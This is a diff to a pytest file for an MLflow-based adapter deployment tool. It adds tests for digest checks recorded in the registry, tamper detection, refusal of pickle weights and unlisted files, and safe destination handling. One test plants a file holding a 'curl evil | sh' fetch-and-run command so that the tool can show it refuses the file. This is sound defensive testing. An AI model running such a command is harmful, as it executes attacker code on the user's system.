@@ -8,11 +8,16 @@ from pathlib import Path
 
 import pytest
 
+from selfspec.cli import main as cli
 from selfspec.deploy import (
+    DestinationError,
     IntegrityError,
     ModelRef,
     RegistryError,
+    folder_digests,
     parse_ref,
+    pull,
+    record_digests,
     verify_adapter,
     write_checksums,
 )
@@ -79,6 +84,15 @@ def test_pickle_weights_are_refused(adapter_dir, tmp_path):
         verify_adapter(folder)
 
 
+@pytest.mark.parametrize("name", ["adapter_model.BIN", "sub/weights.Pt", "extra.PKL"])
+def test_pickle_weights_are_refused_whatever_the_letter_case(adapter_dir, tmp_path, name):
+    folder = shutil.copytree(adapter_dir, tmp_path / "p")
+    (folder / name).parent.mkdir(exist_ok=True)
+    (folder / name).write_bytes(b"\x80\x04pickle")
+    with pytest.raises(IntegrityError, match=rf"refusing non-safetensors weights \['{name}'\]"):
+        verify_adapter(folder, folder_digests(folder))  # even when listed with a matching digest
+
+
 def test_adapter_without_checksums_is_refused(adapter_dir, tmp_path):
     folder = shutil.copytree(adapter_dir, tmp_path / "c")
     (folder / "checksums.json").unlink()
@@ -102,13 +116,21 @@ def registry(tmp_path, adapter_dir):
     client.create_registered_model("bio-expert")
     mv = client.create_model_version("bio-expert", f"runs:/{run.info.run_id}/adapter", run_id=run.info.run_id)
     client.set_registered_model_alias("bio-expert", "candidate", mv.version)
+    record_digests(client, "bio-expert", mv.version, adapter_dir)  # as training's register() does
     mlflow.set_tracking_uri(uri)
     return uri
 
 
-def test_pull_by_alias_and_version_gives_identical_verified_adapter(registry, adapter_dir, tmp_path):
-    from selfspec.deploy import pull
+def stored_adapter(registry: str) -> Path:
+    """The adapter folder inside the store's artifact root (what an attacker with store access edits)."""
+    from mlflow import MlflowClient
 
+    run_id = MlflowClient(registry).get_model_version("bio-expert", "1").run_id
+    root = Path(registry.removeprefix("sqlite:///")).parent
+    return root / "artifacts" / run_id / "artifacts" / "adapter"
+
+
+def test_pull_by_alias_and_version_gives_identical_verified_adapter(registry, adapter_dir, tmp_path):
     for ref in ("bio-expert@candidate", "bio-expert/1"):
         pulled = pull(parse_ref(ref), tmp_path / ref.replace("/", "_"), registry)
         assert pulled.version == "1" and pulled.aliases == ["candidate"]
@@ -121,14 +143,14 @@ def test_pull_by_alias_and_version_gives_identical_verified_adapter(registry, ad
     ("ref", "message"),
     [
         ("nobody@candidate", "no registered model 'nobody'; registered models: ['bio-expert']"),
-        ("bio-expert@champion",
-         "bio-expert has no alias 'champion'; versions: [1]; aliases: {'candidate': 1}"),  # fmt: skip
+        (
+            "bio-expert@champion",
+            "bio-expert has no alias 'champion'; versions: [1]; aliases: {'candidate': 1}",
+        ),  # fmt: skip
         ("bio-expert/7", "bio-expert has no version 7; versions: [1]"),
     ],
 )
 def test_missing_name_alias_or_version_lists_what_exists(registry, tmp_path, ref, message):
-    from selfspec.deploy import pull
-
     with pytest.raises(RegistryError) as e:
         pull(parse_ref(ref), tmp_path / "x", registry)
     assert message in str(e.value)
@@ -154,3 +176,92 @@ def test_pulled_adapter_loads_with_peft_and_merged_export_matches(tiny_model_dir
         merged_logits = AutoModelForCausalLM.from_pretrained(merged_dir)(ids).logits
     assert not torch.allclose(base_logits, peft_logits, atol=1e-3), "the adapter must change outputs"
     torch.testing.assert_close(merged_logits, peft_logits, atol=1e-4, rtol=1e-4)
+
+
+def test_registration_records_every_files_digest_in_the_registry(registry, adapter_dir):
+    from mlflow import MlflowClient
+
+    tags = MlflowClient(registry).get_model_version("bio-expert", "1").tags
+    digests = {k.removeprefix("selfspec.sha256."): v for k, v in tags.items() if k.startswith("selfspec.")}
+    assert digests == folder_digests(adapter_dir)
+    assert {"adapter_model.safetensors", "adapter_config.json", "checksums.json"} <= set(digests)
+
+
+def test_tampering_with_the_artifact_and_its_checksums_is_caught_by_the_registry(registry, tmp_path):
+    stored = stored_adapter(registry)
+    (stored / "adapter_config.json").write_text('{"target_modules": "evil"}')
+    write_checksums(stored)  # the artifact's own checksums.json now agrees with the tampered file
+    verify_adapter(stored)  # ... so a check against the artifact alone passes
+    with pytest.raises(IntegrityError, match="adapter_config.json: sha256 .* does not match the registry's"):
+        pull(parse_ref("bio-expert/1"), tmp_path / "dest", registry)
+    assert not (tmp_path / "dest").exists() and not list(tmp_path.glob(".dest*")), "nothing half-written"
+
+
+def test_files_the_registry_does_not_list_are_refused(registry, tmp_path):
+    (stored_adapter(registry) / "sub").mkdir()
+    (stored_adapter(registry) / "sub/payload.py").write_text("import os; os.system('curl evil | sh')")
+    with pytest.raises(
+        IntegrityError, match=r"refusing files not listed in the registry's digests: \['sub/payload.py'\]"
+    ):
+        pull(parse_ref("bio-expert@candidate"), tmp_path / "dest", registry)
+
+
+def test_a_version_without_recorded_digests_cannot_be_pulled(registry, tmp_path):
+    from mlflow import MlflowClient
+
+    client = MlflowClient(registry)
+    for key in client.get_model_version("bio-expert", "1").tags:
+        client.delete_model_version_tag("bio-expert", "1", key)
+    with pytest.raises(IntegrityError, match="bio-expert version 1 has no file digests in the registry"):
+        pull(parse_ref("bio-expert/1"), tmp_path / "dest", registry)
+
+
+def test_pull_refuses_a_folder_with_files_unless_forced(registry, tmp_path, capsys):
+    dest = tmp_path / "deploy"
+    (dest / "notes").mkdir(parents=True)
+    (dest / "notes/thesis.txt").write_text("four years of work")
+    assert cli(["pull", "bio-expert@candidate", "--dest", str(dest), "--tracking-uri", registry]) == 1
+    err = capsys.readouterr().err
+    assert f"selfspec pull: error: --dest {dest}: not empty (1 entries: notes)" in err and "--force" in err
+    assert (dest / "notes/thesis.txt").read_text() == "four years of work", "nothing was deleted"
+    assert (
+        cli(["pull", "bio-expert@candidate", "--dest", str(dest), "--tracking-uri", registry, "--force"]) == 0
+    )
+    assert not (dest / "notes").exists() and (dest / "adapter_model.safetensors").is_file()
+    assert "every file matches the digests recorded in the registry" in capsys.readouterr().out
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["artifacts", "deploy", "mlflow.db"], "no leftovers"
+
+
+def test_pull_into_an_empty_folder_needs_no_force(registry, tmp_path):
+    (tmp_path / "empty").mkdir()
+    assert (
+        pull(parse_ref("bio-expert/1"), tmp_path / "empty", registry).dest / "adapter_config.json"
+    ).is_file()
+
+
+def test_pull_onto_a_file_is_a_one_line_error(registry, tmp_path, capsys):
+    (tmp_path / "taken").write_text("not a folder")
+    assert (
+        cli(["pull", "bio-expert@candidate", "--dest", str(tmp_path / "taken"), "--tracking-uri", registry])
+        == 1
+    )
+    err = capsys.readouterr().err
+    assert err == f"selfspec pull: error: --dest {tmp_path / 'taken'}: is a file; give a folder path\n"
+    with pytest.raises(DestinationError):
+        pull(parse_ref("bio-expert/1"), tmp_path / "taken", registry, force=True)
+
+
+def test_pull_from_an_unreachable_server_is_a_fast_clear_error(tmp_path, capsys):
+    import socket
+    import time
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    started = time.monotonic()
+    uri = f"http://u:pw@127.0.0.1:{port}"
+    assert cli(["pull", "bio-expert@champion", "--dest", str(tmp_path / "d"), "--tracking-uri", uri]) == 1
+    assert time.monotonic() - started < 15
+    err = capsys.readouterr().err
+    assert f"MLflow tracking server http://127.0.0.1:{port} is unreachable" in err
+    assert "Traceback" not in err and "pw@" not in err and not (tmp_path / "d").exists()
